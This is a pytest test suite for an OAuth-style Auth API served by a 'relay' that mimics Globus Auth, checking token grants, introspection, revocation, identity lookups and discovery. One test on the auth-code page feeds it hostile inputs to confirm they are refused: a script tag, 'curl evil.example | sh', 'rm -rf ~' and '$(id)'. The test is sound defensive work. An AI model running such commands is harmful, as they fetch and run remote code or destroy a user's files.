"""The Auth API over HTTP, as Globus clients speak to it."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING, Any

import jwt
import pytest

from relay.api.auth_identities import MAX_LOOKUPS, PROVISIONS
from relay.auth.identities import CLIENT_PROVIDER_ID
from relay.auth.public_clients import TOWPATH_CLI
from relay.auth.scopes import AUTH_SERVER, TRANSFER_ALL, TRANSFER_SERVER, VIEW_IDENTITY_SET

if TYPE_CHECKING:
    import httpx

    from tests.relay.relay_world import RelayWorld

UNKNOWN = "11111111-2222-4333-8444-555555555555"


async def grant(world: RelayWorld, client: tuple[str, str], scope: str) -> httpx.Response:
    form = {"grant_type": "client_credentials", "scope": scope}
    return await world.http.post("/v2/oauth2/token", data=form, auth=client)


async def granted(world: RelayWorld, client: tuple[str, str], scope: str) -> dict[str, Any]:
    response = await grant(world, client, scope)
    assert response.status_code == 200, response.text
    document: dict[str, Any] = response.json()
    return document


# --- client credentials ----------------------------------------------------------------------------------


async def test_one_service_gives_exactly_one_token(world: RelayWorld) -> None:
    client = await world.client()
    response = await grant(world, client, TRANSFER_ALL)
    document = response.json()
    assert response.headers["cache-control"] == "no-store"
    assert set(document) == {
        "access_token", "scope", "expires_in", "token_type", "resource_server", "other_tokens",
    }  # fmt: skip
    assert document["other_tokens"] == []
    assert (document["expires_in"], document["token_type"]) == (172800, "Bearer")
    assert (document["resource_server"], document["scope"]) == (TRANSFER_SERVER, TRANSFER_ALL)


async def test_several_services_give_a_token_each_with_auth_on_top(world: RelayWorld) -> None:
    client = await world.client()
    document = await granted(world, client, f"{TRANSFER_ALL}[*openid] openid profile {TRANSFER_ALL} email openid")
    assert (document["resource_server"], document["scope"]) == (AUTH_SERVER, "openid profile email")
    (other,) = document["other_tokens"]
    assert (other["resource_server"], other["scope"]) == (TRANSFER_SERVER, TRANSFER_ALL)
    assert other["access_token"] != document["access_token"]


async def test_id_and_secret_may_be_in_the_form(world: RelayWorld) -> None:
    client_id, secret = await world.client()
    form = {"grant_type": "client_credentials", "scope": "openid", "client_id": client_id, "client_secret": secret}
    assert (await world.http.post("/v2/oauth2/token", data=form)).status_code == 200


@pytest.mark.parametrize(
    ("scope", "code"),
    [
        ("", "invalid_scope"),
        ("   ", "invalid_scope"),
        ("a[", "invalid_scope"),
        ("nonsense", "invalid_scope"),
        ("openid[nonsense]", "invalid_scope"),
        (f"{TRANSFER_ALL}[openid[nonsense]]", "invalid_scope"),
        (f"https://auth.globus.org/scopes/{UNKNOWN}/https", "invalid_scope"),
        (f"urn:globus:auth:scope:{UNKNOWN}:manage_collections", "invalid_scope"),
    ],
)
async def test_scopes_that_are_refused(world: RelayWorld, scope: str, code: str) -> None:
    response = await grant(world, await world.client(), scope)
    assert (response.status_code, response.json()["error"]) == (400, code)


@pytest.mark.parametrize("change", ["secret", "id", "empty", "none", "bearer", "garbage", "bytes"])
async def test_wrong_credentials_all_look_the_same(world: RelayWorld, change: str) -> None:
    client_id, secret = await world.client()
    form = {"grant_type": "client_credentials", "scope": "openid"}
    headers: dict[str, str | bytes] = {}
    auth = None
    match change:
        case "secret":
            auth = (client_id, secret[:-1] + "x")
        case "id":
            auth = (UNKNOWN, secret)
        case "empty":
            auth = (client_id, "")
        case "bearer":
            headers = {"Authorization": "Bearer x"}
        case "garbage":
            headers = {"Authorization": "Basic %%%"}
        case "bytes":
            headers = {"Authorization": b"Basic \xff\xc3"}
    response = await world.http.post("/v2/oauth2/token", data=form, auth=auth, headers=headers)
    assert (response.status_code, response.json()["error"]) == (401, "invalid_client")
    assert response.headers["www-authenticate"].startswith("Basic")
    assert secret not in response.text


async def test_guessing_has_to_wait_and_locks_nobody_else_out(world: RelayWorld) -> None:
    client_id, secret = await world.client()
    other = await world.client("other")
    for _ in range(world.settings.sign_in.failures):
        assert (await grant(world, (client_id, "wrong"), "openid")).status_code == 401
    response = await grant(world, (client_id, secret), "openid")
    assert response.status_code == 429
    assert 0 < int(response.headers["retry-after"]) <= world.settings.sign_in.failures_window
    assert (await grant(world, other, "openid")).status_code == 200
    world.clock.now += world.settings.sign_in.failures_window
    assert (await grant(world, (client_id, secret), "openid")).status_code == 200


@pytest.mark.parametrize(
    ("form", "code"),
    [
        ({}, "invalid_request"),
        ({"grant_type": "password"}, "unsupported_grant_type"),
        ({"grant_type": "implicit", "code": "x"}, "unsupported_grant_type"),
    ],
)
async def test_grants_that_are_unknown(world: RelayWorld, form: dict[str, str], code: str) -> None:
    response = await world.http.post("/v2/oauth2/token", data=form, auth=await world.client())
    assert (response.status_code, response.json()["error"]) == (400, code)


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (b"grant_type=client_credentials&scope=openid&scope=email", "application/x-www-form-urlencoded"),
        (b"grant_type=%ff", "application/x-www-form-urlencoded"),
        (b"\xff\xfe", "application/x-www-form-urlencoded"),
        (b"&".join(b"a%d=1" % index for index in range(60)), "application/x-www-form-urlencoded"),
        (b'{"grant_type": "client_credentials"}', "application/json"),
    ],
)
async def test_forms_that_cannot_be_read(world: RelayWorld, body: bytes, kind: str) -> None:
    client = await world.client()
    response = await world.http.post("/v2/oauth2/token", content=body, headers={"Content-Type": kind}, auth=client)
    assert (response.status_code, response.json()["error"]) == (400, "invalid_request")


async def test_two_ways_of_showing_a_secret_at_once_are_refused(world: RelayWorld) -> None:
    client_id, secret = await world.client()
    for extra in ({"client_secret": secret}, {"client_id": UNKNOWN}):
        form = {"grant_type": "client_credentials", "scope": "openid", **extra}
        response = await world.http.post("/v2/oauth2/token", data=form, auth=(client_id, secret))
        assert (response.status_code, response.json()["error"]) == (400, "invalid_request")


async def test_credentials_are_percent_decoded(world: RelayWorld) -> None:
    client_id, secret = await world.client()
    encoded = base64.b64encode(f"{client_id.replace('-', '%2D')}:{secret}".encode()).decode()
    form = {"grant_type": "client_credentials", "scope": "openid"}
    response = await world.http.post("/v2/oauth2/token", data=form, headers={"Authorization": f"Basic {encoded}"})
    assert response.status_code == 200


# --- refresh, validate, introspect, revoke ---------------------------------------------------------------


async def test_refresh_over_http_gives_exactly_one_token(world: RelayWorld) -> None:
    client_id, secret = await world.client()
    person = await world.user("ada@example.org")
    scopes = {AUTH_SERVER: ["openid"], TRANSFER_SERVER: [TRANSFER_ALL]}
    issued = (await world.tokens(person.id, client_id, scopes, refresh=True))[TRANSFER_SERVER]
    form = {"grant_type": "refresh_token", "refresh_token": issued.refresh_token}
    response = await world.http.post("/v2/oauth2/token", data=form, auth=(client_id, secret))
    document = response.json()
    assert document["other_tokens"] == []
    assert (document["resource_server"], document["refresh_token"]) == (TRANSFER_SERVER, issued.refresh_token)
    form["refresh_token"] = "x" * 43
    response = await world.http.post("/v2/oauth2/token", data=form, auth=(client_id, secret))
    document = response.json()
    assert (response.status_code, document["error"]) == (401, "invalid_grant")
    # The Globus CLI knows by this word, there and nowhere else, that somebody has to log in again.
    assert document["errors"][0]["detail"] == "invalid_grant"
    assert document["error_description"] != "invalid_grant"


async def test_validate_tells_a_client_about_its_own_tokens_alone(world: RelayWorld) -> None:
    client, other = await world.client(), await world.client("other")
    token = (await granted(world, client, "openid"))["access_token"]

    async def active(who: tuple[str, str], shown: str) -> object:
        answer = await world.http.post("/v2/oauth2/token/validate", data={"token": shown}, auth=who)
        assert answer.status_code == 200
        return answer.json()

    assert await active(client, token) == {"active": True}
    assert await active(other, token) == {"active": False}
    assert await active(client, "x") == {"active": False}
    world.clock.now += 172800
    assert await active(client, token) == {"active": False}


async def test_introspection(world: RelayWorld) -> None:
    client, other = await world.client(), await world.client("other")
    token = (await granted(world, client, "openid email"))["access_token"]
    form = {"token": token, "include": "session_info,identity_set,identity_set_detail"}
    document = (await world.http.post("/v2/oauth2/token/introspect", data=form, auth=client)).json()
    now = int(world.clock.now)
    session = document.pop("session_info")
    detail = document.pop("identity_set_detail")
    assert len(document.pop("dependent_tokens_cache_id")) == 64
    assert document == {
        "active": True,
        "token_type": "Bearer",
        "scope": "openid email",
        "client_id": client[0],
        "sub": client[0],
        "username": f"{client[0]}@clients.auth.globus.org",
        "name": "program",
        "email": None,
        "exp": now + 172800,
        "iat": now,
        "nbf": now,
        "aud": [AUTH_SERVER, client[0]],
        "iss": world.settings.public_url,
        "identity_set": [client[0]],
    }
    assert session["authentications"][client[0]]["auth_time"] == now
    assert session["authentications"][client[0]]["idp"] == CLIENT_PROVIDER_ID
    assert [identity["sub"] for identity in detail] == [client[0]]
    answer = await world.http.post("/v2/oauth2/token/introspect", data=form, auth=other)
    assert answer.json() == {"active": False}


@pytest.mark.parametrize("path", ["token", "token/validate", "token/introspect"])
async def test_nobody_asks_without_credentials(world: RelayWorld, path: str) -> None:
    confidential, _ = await world.client()
    for form in ({"token": "x"}, {"token": "x", "client_id": "x"}, {"token": "x", "client_id": confidential}):
        response = await world.http.post(f"/v2/oauth2/{path}", data=form)
        assert (response.status_code, response.json()["error"]) == (401, "invalid_client")


async def test_revocation_is_tolerant_and_final(world: RelayWorld) -> None:
    client = await world.client()
    token = (await granted(world, client, "openid"))["access_token"]
    bearer = {"Authorization": f"Bearer {token}"}
    for form in ({}, {"token": ""}, {"token": "x"}):
        response = await world.http.post("/v2/oauth2/token/revoke", data=form, auth=client)
        assert (response.status_code, response.json()) == (200, {"active": False})
    assert (await world.http.get("/v2/oauth2/userinfo", headers=bearer)).status_code == 200
    # As the CLI signs out: with the id of its template and no secret.
    form = {"token": token, "client_id": "95fdeba8-fac2-42bd-a357-e068d82ff78e"}
    response = await world.http.post("/v2/oauth2/token/revoke", data=form)
    assert (response.status_code, response.json()) == (200, {"active": False})
    assert (await world.http.get("/v2/oauth2/userinfo", headers=bearer)).status_code == 401


# --- who is who ------------------------------------------------------------------------------------------


async def test_userinfo_tells_as_much_as_the_scopes_allow(world: RelayWorld) -> None:
    client = await world.client()

    async def keys(scope: str) -> set[str]:
        token = (await granted(world, client, scope))["access_token"]
        answer = await world.http.get("/v2/oauth2/userinfo", headers={"Authorization": f"Bearer {token}"})
        assert answer.status_code == 200
        assert answer.json()["sub"] == client[0]
        return set(answer.json())

    basic = {"sub", "last_authentication"}
    profile = {
        "preferred_username", "name", "organization", "identity_provider", "identity_provider_display_name",
    }  # fmt: skip
    assert await keys("openid") == basic
    assert await keys("openid email") == basic | {"email"}
    assert await keys("openid profile email") == basic | profile | {"email"}
    assert await keys(f"openid profile {VIEW_IDENTITY_SET}") == basic | profile | {"identity_set"}


async def test_userinfo_needs_openid(world: RelayWorld) -> None:
    token = (await granted(world, await world.client(), VIEW_IDENTITY_SET))["access_token"]
    answer = await world.http.get("/v2/oauth2/userinfo", headers={"Authorization": f"Bearer {token}"})
    assert (answer.status_code, answer.json()["errors"][0]["code"]) == (403, "FORBIDDEN")


async def test_identities_by_id_and_by_username(world: RelayWorld) -> None:
    client = await world.client()
    ada = await world.user("Ada@Example.org")
    headers = await world.bearer(*[client[0]] * 2, AUTH_SERVER)

    async def ask(**query: str) -> list[dict[str, Any]]:
        answer = await world.http.get("/v2/api/identities", params=query, headers=headers)
        assert answer.status_code == 200, answer.text
        found: list[dict[str, Any]] = answer.json()["identities"]
        return found

    (found,) = await ask(usernames="ADA@example.org,nobody@example.org")
    assert found == {
        "id": ada.id,
        "username": "ada@example.org",
        "name": None,
        "email": None,
        "organization": None,
        "status": "used",
        "identity_type": "login",
        "identity_provider": "p",
    }
    assert {row["id"] for row in await ask(ids=f"{ada.id},{client[0]},{UNKNOWN}")} == {ada.id, client[0]}
    assert await ask(ids="") == []
    answer = await world.http.get(
        "/v2/api/identities", params={"ids": client[0], "include": "identity_provider"}, auth=client
    )
    assert answer.json()["included"]["identity_providers"][0]["id"] == CLIENT_PROVIDER_ID


@pytest.mark.parametrize(
    "query",
    [
        {},
        {"ids": UNKNOWN, "usernames": "a@b"},
        {"ids": "x"},
        {"usernames": "no-at-sign"},
        {"usernames": "a@b", "provision": "maybe"},
        {"ids": ",".join([UNKNOWN] * 501)},
    ],
)
async def test_questions_about_identities_that_make_no_sense(world: RelayWorld, query: dict[str, str]) -> None:
    client_id, _ = await world.client()
    headers = await world.bearer(client_id, client_id, AUTH_SERVER)
    answer = await world.http.get("/v2/api/identities", params=query, headers=headers)
    assert (answer.status_code, answer.json()["errors"][0]["code"]) == (400, "INVALID_REQUEST")


async def test_identities_are_provisioned_in_the_own_domain_alone(world: RelayWorld) -> None:
    client_id, _ = await world.client()
    headers = await world.bearer(client_id, client_id, AUTH_SERVER)
    domain = world.settings.user_domain
    query = {"usernames": f"new@{domain},new@elsewhere.org"}

    async def ask(**more: str) -> list[dict[str, Any]]:
        answer = await world.http.get("/v2/api/identities", params={**query, **more}, headers=headers)
        found: list[dict[str, Any]] = answer.json()["identities"]
        return found

    assert await ask(provision="false") == []
    (made,) = await ask(provision="true")
    assert (made["username"], made["status"]) == (f"new@{domain}", "unused")
    assert await ask() == [made]
    assert await ask(provision="true") == [made]


async def test_nobody_names_people_without_end(world: RelayWorld, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each would stay in the database for ever."""
    client_id, secret = await world.client()
    domain = world.settings.user_domain
    assert PROVISIONS == world.relay.services.provisions._limit >= MAX_LOOKUPS
    monkeypatch.setattr(world.relay.services.provisions, "_limit", 4)

    async def ask(names: str, **how: Any) -> Any:
        asked = {"usernames": ",".join(f"{name}@{domain}" for name in names), "provision": "true"}
        return await world.http.get("/v2/api/identities", params=asked, **how)

    # Those that are there already, or are named twice, do not count.
    for names, found in (("aab", 2), ("ab", 2), ("bc", 2)):
        answer = await ask(names, headers=await world.bearer(client_id, client_id, AUTH_SERVER))
        assert len(answer.json()["identities"]) == found
    # All or none of them, however the caller shows who it is.
    refused = await ask("cde", auth=(client_id, secret))
    assert (refused.status_code, refused.json()["errors"][0]["code"]) == (429, "TOO_MANY_REQUESTS")
    assert "At most 4 people in a day" in refused.json()["errors"][0]["detail"]
    assert refused.headers["Retry-After"] == "21600"
    assert len((await ask("abc", auth=(client_id, secret))).json()["identities"]) == 3
    assert (await ask("d", auth=(client_id, secret))).status_code == 200
    other = await world.client()
    assert len((await ask("de", auth=other)).json()["identities"]) == 2


async def test_a_copy_that_anybody_may_have_names_nobody_and_is_told_of_nobody(world: RelayWorld) -> None:
    document = {"client": {"template_id": TOWPATH_CLI, "name": "Mallory's"}}
    made = (await world.http.post("/v2/api/clients", json=document)).json()
    copy = (made["client"]["id"], made["included"]["client_credential"]["secret"])
    asked = {"usernames": f"ada@{world.settings.user_domain}"}
    for more in ({}, {"provision": "true"}):
        answer = await world.http.get("/v2/api/identities", params={**asked, **more}, auth=copy)
        assert (answer.status_code, answer.json()["errors"][0]["code"]) == (403, "FORBIDDEN")
    known = await world.http.get("/v2/api/identities", params=asked, auth=await world.client())
    assert known.json()["identities"] == []


async def test_identity_providers(world: RelayWorld) -> None:
    client = await world.client()
    answer = await world.http.get(
        "/v2/api/identity_providers", params={"domains": f"{world.settings.user_domain},x.org"}, auth=client
    )
    (own,) = answer.json()["identity_providers"]
    assert own["domains"] == [world.settings.user_domain]
    answer = await world.http.get("/v2/api/identity_providers", params={"ids": own["id"]}, auth=client)
    assert answer.json()["identity_providers"] == [own]
    assert (await world.http.get("/v2/api/identity_providers", auth=client)).status_code == 400


async def test_consents_are_shown_to_their_giver_alone(world: RelayWorld) -> None:
    client_id, _ = await world.client()
    headers = await world.bearer(client_id, client_id, AUTH_SERVER)
    answer = await world.http.get(f"/v2/api/identities/{client_id}/consents?all=False", headers=headers)
    assert answer.json() == {"consents": []}
    answer = await world.http.get(f"/v2/api/identities/{UNKNOWN}/consents", headers=headers)
    assert answer.status_code == 403


# --- discovery and the place of the interactive login ----------------------------------------------------


async def test_discovery_names_routes_that_exist(world: RelayWorld) -> None:
    document = (await world.http.get("/.well-known/openid-configuration")).json()
    assert document["issuer"] == world.settings.public_url
    paths = (await world.http.get("/openapi.json")).json()["paths"]
    for name, value in document.items():
        if name.endswith("_endpoint") or name == "jwks_uri":
            assert value.removeprefix(world.settings.public_url) in paths
    assert document["id_token_signing_alg_values_supported"] == ["RS512"]


async def test_the_published_key_verifies_id_tokens(world: RelayWorld) -> None:
    keys = (await world.http.get("/jwk.json")).json()["keys"]
    assert (keys[0]["kty"], keys[0]["use"], keys[0]["alg"]) == ("RSA", "sig", "RS512")
    token = world.relay.services.keys.id_token({"sub": "x", "aud": "y"})
    assert jwt.get_unverified_header(token)["kid"] == keys[0]["kid"]
    claims = jwt.decode(token, jwt.PyJWK(keys[0]).key, algorithms=["RS512"], audience="y")
    assert claims["sub"] == "x"


async def test_the_code_page_shows_codes_and_nothing_else(world: RelayWorld) -> None:
    """It asks people to copy what it shows into a terminal, and anybody can make a link to it."""
    page = await world.http.get("/v2/web/auth-code", params={"code": "a-Code_of-ours"})
    assert "a-Code_of-ours" in page.text
    assert "default-src 'none'" in page.headers["content-security-policy"]
    orders = ("<script>alert(1)</script>", "x; curl evil.example | sh", "x\nrm -rf ~\n", "Call us", "$(id)", "abc\n")
    for query in ({}, {"code": ""}, {"code": "x" * 3000}, {"error": "server_error"}, *({"code": o} for o in orders)):
        assert (await world.http.get("/v2/web/auth-code", params=query)).status_code == 400
    refused = await world.http.get("/v2/web/auth-code", params={"error": "access_denied"})
    assert "Nothing was allowed" in refused.text


async def test_the_relay_describes_itself_to_everybody(world: RelayWorld) -> None:
    document = (await world.http.get("/towpath/v1/relay")).json()
    assert document["relay_id"] == world.relay.services.keys.relay_id
    assert document["relay_root"] == world.relay.services.keys.root_public_pem
    assert document["ca_certificate"].startswith("-----BEGIN CERTIFICATE-----")
